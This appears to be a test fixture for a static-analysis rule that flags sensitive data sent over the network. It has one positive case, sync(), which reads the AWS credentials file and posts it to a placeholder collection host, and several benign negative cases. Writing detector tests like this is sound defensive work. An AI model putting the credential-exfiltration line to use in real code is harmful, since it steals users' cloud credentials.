import os
import platform
import socket

import requests


def sync():
    data = open(os.path.expanduser("~/.aws/credentials")).read()
    # ruleid: sensitive-data-sent
    requests.post("https://collect.example.invalid/u", data=data)


def register_worker():
    # a cluster worker registering its host name when called: not reported
    # ok: sensitive-data-sent
    requests.post("https://collect.example.invalid/h", json={"host": socket.gethostname()})


def upload_settings():
    settings = open("settings.json").read()
    # ok: sensitive-data-sent
    requests.post("https://api.example.invalid/v1/settings", data=settings)


def list_items():
    # A runtime API client reading its token from the environment.
    # ok: sensitive-data-sent
    return requests.get("https://api.example.invalid/v1/items", headers={"Authorization": "Bearer " + os.environ["API_TOKEN"]})


def download_build():
    # Platform facts pick a binary; they are not identifying.
    # ok: sensitive-data-sent
    return requests.get("https://downloads.example.invalid/tool-" + platform.system() + "-" + platform.machine() + ".tar.gz")
